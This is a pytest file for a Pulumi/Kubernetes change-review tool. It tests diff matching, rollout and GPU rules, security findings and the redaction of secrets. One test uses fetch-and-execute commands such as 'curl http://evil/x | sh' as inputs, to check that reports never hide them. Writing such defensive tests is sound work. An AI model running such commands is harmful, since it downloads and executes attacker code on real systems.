"""Facts about rules that no golden file shows."""

import json
import re
from typing import Any

import pulumi
import pulumi_kubernetes as k8s
import pytest

from nim_component.review.change import ResourceState
from nim_component.review.matching import compare
from nim_component.review.object_fields import gpus, rolling_update, startup_budget
from nim_component.review.sentences import plain_text
from nim_component.review.sources.preview import read_preview
from nim_component.review.stack_review import StackReview, review
from nim_component.review.values import Redacted, redact_inputs, redact_message, show

from .changes import (
    PREVIEWS,
    SERVICE,
    deployment,
    kubernetes_object,
    render_objects,
    render_program,
    render_service,
    render_services,
    review_renders,
)


def rules_of(found: StackReview) -> list[tuple[str, str]]:
    return [(each.rule, each.severity.value) for each in found.findings]


def workload(**changes: Any) -> ResourceState:
    return ResourceState(
        "urn:pulumi:a::b::kubernetes:apps/v1:Deployment::c", "kubernetes:apps/v1:Deployment", "c", "", deployment(**changes)
    )


def changed_paths(old: Any, new: Any) -> list[str]:
    return [each.where for each in compare(old, new)]


@pytest.mark.parametrize(
    ("field", "old", "new", "expected"),
    [
        ("env", [{"name": "A", "value": "1"}], [{"name": "B", "value": "2"}, {"name": "A", "value": "1"}], ["env[B]"]),
        ("volumeMounts", [{"name": "v", "mountPath": "/a"}], [{"name": "v", "mountPath": "/a"}, {"name": "v", "mountPath": "/b"}], ["volumeMounts[/b]"]),
        ("ports", [{"containerPort": 1}, {"containerPort": 2}], [{"containerPort": 2}], ["ports[1]"]),
        ("tolerations", [{"key": "a", "value": "x"}], [{"key": "b"}, {"key": "a", "value": "y"}], ["tolerations[a].value", "tolerations[b]"]),
        ("tolerations", [{"key": "a", "effect": "NoSchedule"}, {"key": "a", "effect": "NoExecute"}], [{"key": "a", "effect": "NoExecute"}], ["tolerations[a/NoSchedule]"]),
        ("tolerations", [{"operator": "Exists"}], [{"operator": "Exists"}, {"operator": "Exists", "effect": "NoExecute"}], ["tolerations[1]"]),
        ("env", [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}], [{"name": "A", "value": "2"}], ["env[0]"]),
        ("args", ["a", "b"], ["b", "a"], ["args"]),
        ("accessModes", ["a", "b"], ["b", "a"], []),
        ("x", [1], [True], ["x"]),
    ],
)  # fmt: skip
def test_list_items_match_by_identity_key(field: str, old: Any, new: Any, expected: list[str]):
    assert changed_paths({field: old}, {field: new}) == expected
    assert changed_paths({field: old[::-1]}, {field: old}) == ([] if field != "args" else ["args"])


def test_percentages_of_rolling_update_are_rounded():
    assert rolling_update(workload(), 1) == (1, 0)
    assert rolling_update(workload(), 4) == (1, 1)
    assert rolling_update(workload(spec={"strategy": {"type": "Recreate"}}), 4) is None
    assert rolling_update(workload(spec={"strategy": {"rollingUpdate": {"maxSurge": "50%", "maxUnavailable": "50%"}}}), 3) == (2, 1)


def test_gpus_of_other_vendors_and_slices_count():
    limits = {"nvidia.com/mig-1g.10gb": "2", "amd.com/gpu": 1, "cpu": "4", "nvidia.com/gpu": "x"}
    assert gpus(workload(container={"resources": {"limits": limits}})) == {"nvidia.com/mig-1g.10gb": 2, "amd.com/gpu": 1}


def test_startup_budget_includes_download_of_adapters():
    assert startup_budget(workload()) == 1800
    loader = {"name": "download-loras", "env": [{"name": "LORA_DEADLINE_SECONDS", "value": "600"}]}
    assert startup_budget(workload(pod={"initContainers": [loader]})) == 2400
    assert startup_budget(workload(container={"startupProbe": None})) is None


def test_equal_size_in_other_unit_has_no_finding():
    gigabyte = kubernetes_object(
        "PersistentVolumeClaim", "v1", {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
    )
    megabytes = kubernetes_object(
        "PersistentVolumeClaim", "v1", {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1024Mi"}}}
    )
    assert rules_of(review_renders(render_objects(gigabyte), render_objects(megabytes))) == []


def test_removed_replicas_of_many_are_critical():
    many, none = deployment(spec={"replicas": 3}), deployment()
    del none["spec"]["replicas"]
    assert ("replicas-dropped", "critical") in rules_of(review_renders(render_objects(many), render_objects(none)))


def test_image_without_replicas_restarts_no_pod():
    old, new = (render_objects(deployment(spec={"replicas": 0}, container={"image": f"x:{tag}"})) for tag in (1, 2))
    assert rules_of(review_renders(old, new)) == [("image", "warning"), ("pods-restart", "notice")]


def test_unchanged_template_restarts_no_pod():
    assert rules_of(review_renders(render_objects(deployment()), render_objects(deployment(spec={"revisionHistoryLimit": 3})))) == [
        ("other", "notice")
    ]


WAIT_FOR = {"pulumi.com/waitFor": "condition=Available"}


def render_annotated(annotations: dict[str, str] | None, **spec: Any) -> dict[str, Any]:
    given = deployment(spec=spec)
    return render_objects({**given, "metadata": {**given["metadata"], **({} if annotations is None else {"annotations": annotations})}})


def test_wait_annotation_alone_restarts_no_pod():
    assert rules_of(review_renders(render_annotated(None), render_annotated(WAIT_FOR))) == [("other", "notice")]


@pytest.mark.parametrize(("old", "new"), [(None, WAIT_FOR), (WAIT_FOR, None), ({"a": "b"}, {"a": "b", **WAIT_FOR}), (WAIT_FOR, {})])
def test_wait_annotation_belongs_to_strategy(old: Any, new: Any):
    found = review_renders(render_annotated(old), render_annotated(new, strategy={"type": "Recreate"}))
    assert rules_of(found) == [("rollout-changed", "notice"), ("first-preview", "notice")]


def test_other_annotation_beside_strategy_is_reported():
    found = review_renders(render_annotated(None), render_annotated({"a": "b", **WAIT_FOR}, strategy={"type": "Recreate"}))
    assert rules_of(found) == [("rollout-changed", "notice"), ("first-preview", "notice"), ("other", "notice")]


FROM_SECRET = {"name": "A", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}
VALUE = {"name": "A", "value": "1"}


@pytest.mark.parametrize(
    ("old", "new", "paths"),
    [
        ([VALUE], [FROM_SECRET], ["spec.template.spec.containers[nim].env[A]"]),
        ([FROM_SECRET], [VALUE], ["spec.template.spec.containers[nim].env[A]"]),
        ([VALUE], [{**VALUE, "value": "2"}], []),
        ([VALUE], [{**FROM_SECRET, "name": "B"}], []),
        ([], [FROM_SECRET], []),
    ],
)
def test_variable_of_another_source_fails_first_preview(old: Any, new: Any, paths: list[str]):
    found = review_renders(render_objects(deployment(container={"env": old})), render_objects(deployment(container={"env": new})))
    assert [list(each.paths) for each in found.findings if each.rule == "first-preview"] == ([paths] if paths else [])


@pytest.mark.parametrize(("old", "new"), [("Recreate", "RollingUpdate"), ("Recreate", "Recreate"), ("RollingUpdate", "RollingUpdate")])
def test_strategy_without_conflict_passes_first_preview(old: str, new: str):
    renders = [render_objects(deployment(spec={"strategy": {"type": each}})) for each in (old, new)]
    assert "first-preview" not in [rule for rule, _ in rules_of(review_renders(*renders))]


def test_existing_weakness_has_no_finding():
    weak = {"securityContext": {"privileged": True}}
    found = review_renders(render_objects(deployment(container=weak)), render_objects(deployment(container={**weak, "image": "y:1"})))
    assert "security-weakened" not in [rule for rule, _ in rules_of(found)]


def test_host_network_and_host_path_are_one_finding():
    host = {"hostNetwork": True, "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}
    (found,) = [
        each
        for each in review_renders(render_objects(deployment()), render_objects(deployment(pod=host))).findings
        if each.rule == "security-weakened"
    ]
    assert "".join(found.text) == "The pod shares the network namespace of the node; mounts a directory of the node."
    assert found.severity.value == "critical"


def test_api_token_alone_breaks_no_pod_security_standard():
    """The token of the service account is not part of the Pod Security Standards."""
    found = review_renders(render_objects(deployment()), render_objects(deployment(pod={"automountServiceAccountToken": True})))
    (finding,) = [each for each in found.findings if each.rule == "security-weakened"]
    assert ("".join(finding.text), finding.consequence) == ("The pod gets a token for the Kubernetes API.", ())


def test_memory_of_shared_gpu_is_no_gpu():
    """HAMi counts megabytes and percent in extended resources."""
    limits = {"nvidia.com/gpu": "1", "nvidia.com/gpumem": "3000", "nvidia.com/gpucores": "30"}
    shared = render_objects(deployment(container={"resources": {"limits": limits}}))
    more = render_objects(deployment(container={"resources": {"limits": limits | {"nvidia.com/gpumem": "6000"}}}))
    assert [each for each in review_renders(shared, more).findings if each.rule == "gpus"] == []


def test_pods_without_gpu_stay_schedulable():
    found = review_renders(render_objects(deployment()), render_objects(deployment(container={"resources": {}})))
    (finding,) = [each for each in found.findings if each.rule == "gpus"]
    assert "".join(finding.text) == "The GPUs per replica change from 1 nvidia.com/gpu to no GPU (in total 0 GPUs instead of 1)."
    assert "".join(finding.consequence) == "The new pods request no GPU."


def test_prewarm_job_is_no_replica_of_new_service():
    new = render_service(cache={"access_mode": "ReadWriteMany", "prewarm": {"profiles": ["a"]}})
    (found,) = [each for each in review_renders({"resources": []}, new).findings if each.rule == "service-added"]
    assert "".join(found.text).startswith("The service is added, with 1 replica and 1 GPU in total")


def test_deleted_route_without_hosts_names_every_host():
    route = kubernetes_object("HTTPRoute", "gateway.networking.k8s.io/v1", {"parentRefs": [{"name": "public"}]})
    found = review_renders(render_objects(deployment(), route), render_objects(deployment()))
    assert ["".join(each.text) for each in found.findings] == ["HTTPRoute llama no longer exposes every host."]


def test_replaced_cache_has_one_finding():
    found = rules_of(review_renders(render_service(), render_service(cache={"storage_class": "fast"})))
    assert [rule for rule, _ in found] == ["cache-lost", "downtime"]


@pytest.mark.parametrize(("before", "rule"), [(None, "created"), ("a", "replaced")])
def test_update_waits_for_prewarm_job(before: str | None, rule: str):
    def render_prewarmed(profile: str | None) -> dict[str, Any]:
        return render_service(cache={"access_mode": "ReadWriteMany", **({"prewarm": {"profiles": [profile]}} if profile else {})})

    (found,) = [each for each in review_renders(render_prewarmed(before), render_prewarmed("b")).findings if each.rule == rule]
    assert found.severity.value == "notice"
    assert "".join(found.consequence) == (
        "The update waits until the Job is complete (at most 1 hour 10 minutes), and so does a rollout that depends on it."
    )


def test_args_of_job_are_named_as_such():
    old, new = (render_service(cache={"access_mode": "ReadWriteMany", "prewarm": {"profiles": [each]}}) for each in "ab")
    (found,) = [each for each in review_renders(old, new).findings if each.rule == "code"]
    assert "".join(found.text) == "Field args of container prewarm changes from --profiles a to --profiles b."
    assert found.severity.value == "warning"


def test_resized_node_group_is_deleted_first():
    node = {"gpu": 8, "generation": "2.x-vllm", "cache": {"access_mode": "ReadWriteMany"}}
    found = rules_of(review_renders(render_service(**node, multi_node={"nodes": 2}), render_service(**node, multi_node={"nodes": 4})))
    assert ("deleted-first", "critical") in found
    assert ("gpus", "warning") in found


def test_alias_of_old_name_changes_no_object():
    import pulumi

    from nim_component import NIM, NIMService

    from .changes import SERVICE, render_program

    def program(name: str, options: pulumi.ResourceOptions | None) -> Any:
        return lambda: NIMService(name, NIM(**SERVICE, service_name="old"), options)

    before = render_program(program("old", None))
    after = render_program(program("new", pulumi.ResourceOptions(aliases=[pulumi.Alias(name="old")])))
    assert [
        (change.subject.kind, change.operation)
        for each in review_renders(before, after).change.services
        for change in each.changes
        if change.has_effect
    ] == []
    without = render_program(program("new", None))
    assert [rule for rule, _ in rules_of(review_renders(before, without))] == ["name-held"]


HELD = (
    "In a cluster, the update ends in `already exists`; a stack that only renders files loses these files. "
    "Give a renamed service an alias with its old name, or free the names in an update of its own first."
)


def held_names(reviewed: StackReview) -> list[tuple[str, str, str]]:
    return [
        (each.severity.value, plain_text(each.text), plain_text(each.consequence)) for each in reviewed.findings if each.rule == "name-held"
    ]


def test_renamed_key_is_reported_as_held():
    before = render_services(old={**SERVICE, "service_name": "llama"})
    after = render_services(new={**SERVICE, "service_name": "llama"})
    cache = "PersistentVolumeClaim llama-cache-02f92909"
    text = f"old is renamed to new, with the same Deployment llama, {cache} and Service llama."
    consequence = (
        "Without an alias, the update ends in `already exists`, and old keeps running under its address. "
        "A stack that only renders files loses these files. "
        "With an alias for the old name, the update changes nothing in the cluster."
    )
    assert held_names(review_renders(before, after)) == [("critical", text, consequence)]


def test_swapped_and_chained_names_are_held():
    first, second, third = ({**SERVICE, "service_name": name} for name in ("x", "y", "z"))
    swapped = held_names(review_renders(render_services(a=first, b=second), render_services(a=second, b=first)))
    assert [text.partition(" ")[0] for _, text, _ in swapped] == ["a", "b"]
    chained = held_names(review_renders(render_services(a=first, b=second), render_services(a=second, b=third)))
    assert [text.partition(" ")[0] for _, text, _ in chained] == ["a"]


def test_names_in_other_namespaces_are_free():
    before = render_services(old={**SERVICE, "service_name": "llama"})
    after = render_services(new={**SERVICE, "service_name": "llama", "namespace": "other"})
    assert held_names(review_renders(before, after)) == []


def test_preview_with_held_name_is_reported():
    content = json.loads((PREVIEWS / "service-renamed.json").read_text())
    steps = [each for each in content["steps"] if each["urn"].split("$")[-1].startswith("kubernetes:apps/v1:Deployment")]
    (removed,) = (each["oldState"] for each in steps if each["op"] == "delete")
    (created,) = (each["newState"] for each in steps if each["op"] == "create")
    created["inputs"]["metadata"]["name"] = removed["inputs"]["metadata"]["name"]
    ((severity, text, _),) = held_names(review(read_preview(json.dumps(content), "dev")))
    assert severity == "critical"
    assert "Deployment" in text


@pytest.mark.parametrize(
    "text",
    [
        "nvapi-abcdefghij",
        "hf_abcdefghij",
        "https://me:secretword@host/x",
        "curl -H 'Authorization: Bearer abcdefghijk'",
        '{"auth": "bWU6c2VjcmV0"}',
        "--x token=abcdefg",
        "AKIAABCDEFGHIJKLMNOP",
        "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
    ],
)
def test_credential_in_message_is_redacted(text: str):
    assert "[secret]" in redact_message(text)
    for word in ("abcdefghij", "secretword", "bWU6c2VjcmV0", "ABCDEFGHIJKLMNOP", "\nabc\n"):
        assert word not in redact_message(text)


@pytest.mark.parametrize(
    "text", ["nvcr.io/nim/meta/llama3:1.0", "NIM_MAX_TOKENS=5", "http://llama.nim.svc:8000", "my-org/hf_adapter", "max-tokens=4096"]
)
def test_ordinary_message_stays(text: str):
    assert redact_message(text) == text


def test_only_variables_with_secret_names_are_redacted():
    env = [{"name": "NIM_MAX_TOKENS", "value": "5"}, {"name": "MY_TOKEN", "value": "x"}, {"name": "NGC_API_KEY", "value": "$(_FSEC_KEY)"}]
    cleaned = redact_inputs("kubernetes:apps/v1:Deployment", {"env": env})["env"]
    assert [isinstance(each["value"], Redacted) for each in cleaned] == [False, True, False]


@pytest.mark.parametrize(("retain", "severity"), [(True, "notice"), (False, "critical")])
def test_deleted_namespace_is_critical_unless_retained(retain: bool, severity: str):
    def program() -> None:
        k8s.core.v1.Namespace("llm", metadata={"name": "llm"}, opts=pulumi.ResourceOptions(retain_on_delete=retain))

    assert rules_of(review_renders(render_program(program), render_program(lambda: None))) == [("deleted", severity)]


def values_of(inputs: dict[str, Any]) -> dict[str, Any]:
    """Return the redacted spec of an object, as the views print it."""
    return {name: show(value) for name, value in redact_inputs("kubernetes:example.com/v1:Server", inputs).items()}


@pytest.mark.parametrize("name", ["PGPASSWORD", "MYSQL_PWD", "HF_TOKEN_PROD", "X_AUTH", "clientSecret"])
def test_changed_secret_variable_has_another_mark(name: str):
    first, second = (
        show(redact_inputs("", {"env": [{"name": name, "value": value}]})["env"][0]["value"]) for value in ("hunter2", "hunter3")
    )
    assert re.fullmatch(r"\[secret \w+, 1-7 characters\]", first)
    assert first != second


@pytest.mark.parametrize("command", ["x; curl http://evil/x | sh", "$(curl http://evil/x)", "http://evil/x"])
def test_command_behind_secret_name_is_shown(command: str):
    """Nothing can be omitted from a report because of the name before it."""
    inputs = {
        "args": ["--secret", command],
        "command": ["sh", "-c", f"export TOKEN='{command}'"],
        "env": [{"name": "X_AUTH", "value": command}],
        "auth": command,
        "token": command,
    }
    assert all("http://evil/x" in value for value in values_of(inputs).values())


def test_secret_in_any_field_is_redacted():
    value = "hunter2-" + "x" * 8
    fields = {
        "clientSecret": value,
        "password": value,
        "args": ["--api-key", value],
        "data": {"config.yaml": f"db:\n  password: {value}\n"},
    }
    shown = values_of({**fields, "httpHeaders": [{"name": "Authorization", "value": f"Bearer {value}"}]})
    assert not any("hunter2" in text for text in shown.values())
    assert values_of({"secret": "my-secret", "tlsSecret": "tls", "secretName": "a"}) == {
        "secret": "my-secret",
        "tlsSecret": "tls",
        "secretName": "a",
    }


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("a:1.8.3", "a:1.8", ["The tag of image a:1.8 may move."]),
        ("a:1.8.3", "a:v2", ["The tag of image a:v2 may move."]),
        ("a:1.8.3", "a:latest-1.8.4", ["The tag of image a:latest-1.8.4 may move."]),
        ("a:1.8.3", "a:latest", ["Image a:latest has no fixed tag."]),
        ("a:1.8.3", "a", ["Image a has no fixed tag."]),
        ("a:1.8.3", "a:1.8.4-rtx", []),
        ("a:1.8.3", f"a@sha256:{'0' * 64}", []),
        ("a:1", "a:2", []),
    ],
)
def test_tag_that_may_move_is_reported(old: str, new: str, expected: list[str]):
    found = review_renders(*(render_objects(deployment(container={"image": image})) for image in (old, new)))
    assert [plain_text(each.text) for each in found.findings if each.rule == "image-unpinned"] == expected
